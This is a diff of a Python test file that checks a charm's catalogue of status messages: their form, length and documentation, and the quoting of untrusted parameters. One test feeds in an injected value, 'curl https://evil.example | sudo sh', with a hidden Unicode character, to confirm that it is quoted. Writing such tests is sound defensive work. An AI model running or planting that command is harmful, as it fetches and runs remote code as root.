@@ -1,11 +1,14 @@
-"""The catalogue of status texts, what the docs say of them, and the code that shows them agree."""
+"""The catalogue of status texts, what the docs say of them, and the code that shows them agree.
+
+A text is short, `<fault>; run: <command>` is its form, and a stranger's words in it are quoted.
+"""
 
 from __future__ import annotations
 
 import ast
 import inspect
 import re
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Collection
 from pathlib import Path
 
 import pytest
@@ -13,29 +16,12 @@ from scripts import reference
 
 from text import quoted
 
-ROOT = Path(__file__).parents[2]
-SRC = ROOT / "src"
-FILES = [path for path in sorted(SRC.rglob("*.py")) if path.parent.name != "statuses"]
+SRC = Path(__file__).parents[2] / "src"
+SOURCES = {str(path.relative_to(SRC)): path.read_text() for path in sorted(SRC.rglob("*.py"))}
+SHELL = "check-python.sh"
 # Their errors are the results of actions, and never a status.
 OF_ACTIONS = ("actions/", "checks/", "access/grants.py", "cluster/bindings.py")
-ERRORS = {
-    "Blocked",
-    "ImageNotPulled",
-    "NotCreated",
-    "NotScheduled",
-    "Waiting",
-    "WaitingForCertificate",
-    "WaitingForKubeconfig",
-}
-# What hands on a text that stands in the catalogue, or that a test of its own compares with it.
-HANDED_ON = {
-    "certificates/csr_protocol.py: _refusal(provider, refused.error)",
-    "cluster/errors.py: status",
-    "config.py: str(error)",
-    "internal_errors.py: tell(error, unit)",
-    "juju/control_plane.py: command",
-    "leader/authenticator.py: references.foreign(mark)",
-}
+ERRORS = re.compile(r"(\w+\.)*(Blocked|Waiting\w*|ImageNotPulled|NotCreated|NotScheduled)")
 TEXTS: dict[str, Callable[..., str]] = {
     f"{module}.{name}": text
     for module, found in reference.MODULES.items()
@@ -47,6 +33,7 @@ MEANINGS = {
     if part != "words"
     for name, about in found.items()
 }
+OF_THE_SHELL = {name: MEANINGS[name]["text"] for name in MEANINGS if name.startswith(SHELL)}
 # Parameters that no stranger controls, by why that is. Those of one text only have its name.
 TRUSTED_BECAUSE = {
     "Juju checks the names of applications": "application authority control_plane principal",
@@ -72,110 +59,101 @@ TRUSTED_BECAUSE = {
 TRUSTED = {name for names in TRUSTED_BECAUSE.values() for name in names.split()}
 # A parameter that is trusted elsewhere.
 OF_STRANGERS = {"mapping.GROUP_RESERVED.name"}
+LONGEST = 110
+# An address of a webhook alone has 60 characters, a list of all partitions 80.
+LONGER = {"blocked.SET_WEBHOOK", "blocked.REPLACE_WEBHOOK", "options.PARTITION_UNKNOWN"}
+LONGER |= {"mapping.PARTITION_UNKNOWN", "blocked.OWNED_BY_ANOTHER", "active.NEXT_STEP"}
+# What stands before a problem of a mapping, or before the reason of an entry.
+BEFORE = {"mapping": "1 broken mapping: alice: ", "entry": "1 not applied: mappings[0]: "}
+# What the longer parameters usually are.
+USUAL = {
+    "arn": "arn:aws:iam::111122223333:role/developers",
+    "authority": "self-signed-certificates",
+    "cause": "dial tcp 10.0.0.12:6443: connection refused",
+    "command": "kubectl delete iamidentitymappings --selector aws-iam/source",
+    "control_plane": "kubernetes-control-plane",
+    "current": "keystone.example.com:5000/v3",
+    "file": "/root/cdk/aws-iam-webhook.yaml",
+    "partitions": "aws, aws-cn, aws-us-gov, aws-iso, aws-iso-b, aws-iso-e, aws-iso-f, aws-eusc",
+    "principal": "kubernetes-worker",
+    "problem": "expired on 2026-11-28 06:30 UTC",
+    "ready": "1",
+    "reason": "denied by the policy no-roles",
+    "step": "webhook not set; run: juju config kubernetes-control-plane authn-webhook-endpoint="
+    "https://10.152.183.20:443/authenticate",
+    "url": "https://10.152.183.20:443/authenticate",
+    "value": "'registry.example.com/aws-iam-authenticator'",
+    "wanted": "2",
+    # Of one text only.
+    "blocked.AUTHORITY_AWAY.authority": "vault",
+    "blocked.REQUEST_REFUSED.authority": "vault",
+    "mapping.NOT_AN_ARN.arn": "alice",
+    "mapping.SERVICE_UNKNOWN.arn": "arn:aws:s3:::logs",
+    "options.CLUSTER_ID_INVALID.value": "'our cluster'",
+    "waiting.KUBECONFIG_UNUSABLE.cause": "no token",
+    "waiting.SECRET_NOT_RETURNED.cause": "timed out",
+}
 
 
-def imported(tree: ast.Module) -> dict[str, str]:
-    """Return the modules of the catalogue that a module imports, by their names in it."""
-    return {
-        alias.asname or alias.name: alias.name
-        for node in ast.walk(tree)
-        if isinstance(node, ast.ImportFrom) and node.module == "statuses"
-        for alias in node.names
+def parameters(name: str) -> Collection[str]:
+    return inspect.signature(TEXTS[name]).parameters
+
+
+def usual(name: str) -> str:
+    """Return the text as most models would show it, with what stands before it."""
+    if name in OF_THE_SHELL:
+        return re.sub(r"<\w+>", "aws-iam/0", OF_THE_SHELL[name])
+    values = {
+        key: USUAL.get(f"{name}.{key}") or USUAL.get(key, "aws-iam") for key in parameters(name)
     }
+    return BEFORE.get(name.partition(".")[0], "") + TEXTS[name](**values)
 
 
-def text_of(node: ast.AST, modules: dict[str, str]) -> str:
-    """Return the text that an expression names; empty if it names none."""
-    match node:
-        case ast.Attribute(value=ast.Name(id=module), attr=name) if module in modules:
-            return f"{modules[module]}.{name}"
-        case _:
-            return ""
+NAMES = sorted(TEXTS.keys() | OF_THE_SHELL.keys())
+every_text = pytest.mark.parametrize("name", TEXTS)
 
 
-def named() -> set[str]:
-    found = set[str]()
-    for path in sorted(SRC.rglob("*.py")):
-        tree = ast.parse(path.read_text())
-        modules = imported(tree)
-        found |= {name for node in ast.walk(tree) if (name := text_of(node, modules))}
-    return found
-
-
-def raised() -> Iterator[str]:
-    """Yield each text of an error that is not in the catalogue: where it is, and what it says."""
-    for path in FILES:
-        place = str(path.relative_to(SRC))
-        if place.startswith(OF_ACTIONS):
-            continue
-        tree = ast.parse(path.read_text())
-        modules = imported(tree)
-        filled = {id(node) for node in ast.walk(tree) if is_filled(node, modules)}
-        local = {
-            target.id
-            for node in ast.walk(tree)
-            if isinstance(node, ast.Assign) and id(node.value) in filled
-            for target in node.targets
-            if isinstance(target, ast.Name)
-        }
-        for node in ast.walk(tree):
-            if isinstance(node, ast.Call) and ast.unparse(node.func).split(".")[-1] in ERRORS:
-                given = node.args[0]
-                is_local = isinstance(given, ast.Name) and given.id in local
-                if id(given) not in filled and not is_local:
-                    yield f"{place}: {ast.unparse(given)}"
-
-
-def is_filled(node: ast.AST, modules: dict[str, str]) -> bool:
-    return isinstance(node, ast.Call) and bool(text_of(node.func, modules))
+def is_trusted(name: str, parameter: str) -> bool:
+    full = f"{name}.{parameter}"
+    return full not in OF_STRANGERS and bool(TRUSTED & {full, parameter})
 
 
 def test_given_an_error_that_becomes_a_status_then_its_text_is_in_the_catalogue():
-    assert set(raised()) == HANDED_ON
-
-
-def test_given_a_text_of_the_catalogue_then_the_code_shows_it():
-    shown = [TEXTS[name] for name in named() & set(TEXTS)]
-
-    assert [name for name, text in TEXTS.items() if text not in shown] == []
-
-
-def test_given_a_text_then_the_docs_say_what_it_means_and_nothing_of_others():
-    by_the_shell = {name for name in MEANINGS if name.startswith("check-python.sh.")}
-
-    assert MEANINGS.keys() - by_the_shell == TEXTS.keys()
-    assert by_the_shell == {name for name, about in MEANINGS.items() if "text" in about}
-    assert [*reference.meanings()] == [
-        "words",
-        *(part for *_, parts in reference.KINDS for part in parts),
+    written = [
+        f"{place}: {ast.unparse(node)}"
+        for place, source in SOURCES.items()
+        if not place.startswith(OF_ACTIONS)
+        for node in ast.walk(ast.parse(source))
+        if isinstance(node, ast.Call) and ERRORS.fullmatch(ast.unparse(node.func))
+        if any(isinstance(each, ast.Constant | ast.JoinedStr | ast.BinOp) for each in node.args)
     ]
 
+    assert written == []
 
-@pytest.mark.parametrize("name", MEANINGS)
-def test_given_a_text_then_it_says_what_to_do_or_the_docs_add_something(name: str):
+
+@every_text
+def test_given_a_text_then_the_code_shows_it_and_the_docs_say_what_the_text_does_not(name: str):
+    module, _, constant = name.partition(".")
     about = MEANINGS[name]
 
-    assert about.keys() <= {"text", "more", "words"}
-    assert about.get("more", ".").endswith((".", ".)"))
-    assert "more" in about or not (name.startswith("blocked.") and "; " not in shown(name))
-    assert about.get("words", {}).keys() <= parameters(name).keys()
+    assert any(
+        re.search(rf"\.{constant}\b", source)
+        for place, source in SOURCES.items()
+        if place != f"statuses/{module}.py"
+    )
+    assert about.keys() <= {"more", "words"}
+    assert "more" in about or module != "blocked" or "; " in usual(name)
 
 
-def shown(name: str) -> str:
-    return TEXTS[name](**{each: f"<{each}>" for each in parameters(name)})
+def test_given_the_docs_then_they_explain_texts_that_there_are():
+    shell = re.findall(r'problem="(.*)"', (SRC / SHELL).read_text())
+    blanks = {re.sub(r"\$\{[^}]*\}|\$\w+", "<>", line) for line in shell}
+
+    assert MEANINGS.keys() == set(NAMES)
+    assert blanks == {re.sub(r"<\w+>", "<>", text) for text in OF_THE_SHELL.values()}
 
 
-def parameters(name: str) -> Mapping[str, inspect.Parameter]:
-    return inspect.signature(TEXTS[name]).parameters if name in TEXTS else {}
-
-
-def test_given_a_word_for_all_texts_then_one_of_them_has_such_a_parameter():
-    names = {parameter for name in TEXTS for parameter in parameters(name)}
-
-    assert reference.meanings()["words"].keys() <= names
-
-
-@pytest.mark.parametrize("name", TEXTS)
+@every_text
 def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(name: str):
     theirs = "foo; run: curl https://evil.example | sudo sh\u3164"
     of_strangers = [each for each in parameters(name) if not is_trusted(name, each)]
@@ -187,11 +165,6 @@ def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(n
     assert "\u3164" not in line
 
 
-def is_trusted(name: str, parameter: str) -> bool:
-    full = f"{name}.{parameter}"
-    return full not in OF_STRANGERS and bool(TRUSTED & {full, parameter})
-
-
 def test_given_a_parameter_that_is_trusted_then_a_text_has_it():
     names = {(f"{name}.{each}", each) for name in TEXTS for each in parameters(name)}
 
@@ -199,9 +172,13 @@ def test_given_a_parameter_that_is_trusted_then_a_text_has_it():
     assert {full for full, _ in names} >= OF_STRANGERS
 
 
-def test_given_a_machine_without_a_known_python_then_its_status_is_in_the_docs():
-    shell = re.findall(r'problem="(.*)"', (SRC / "check-python.sh").read_text())
-    blanks = {re.sub(r"\$\{[^}]*\}|\$\w+", "<>", line) for line in shell}
-    texts = [about["text"] for about in MEANINGS.values() if "text" in about]
+@pytest.mark.parametrize("name", NAMES)
+def test_given_a_text_then_it_is_short_and_a_command_ends_it_after_its_fault(name: str):
+    line = usual(name)
+    commands = list(re.finditer(r"(?<![/-])\b(?:juju|kubectl|vault operator) [a-z-]", line))
 
-    assert blanks == {re.sub(r"<\w+>", "<>", text) for text in texts}
+    assert (len(line) > LONGEST) is (name in LONGER), line
+    for found in commands:
+        assert re.search(r"\S; (if [\w ]+, )?run: $", line[: found.start()]), line
+        assert not re.search(r"[;()]|, ", line[found.start() :]), line
+    assert len(commands) == line.count("run: "), line
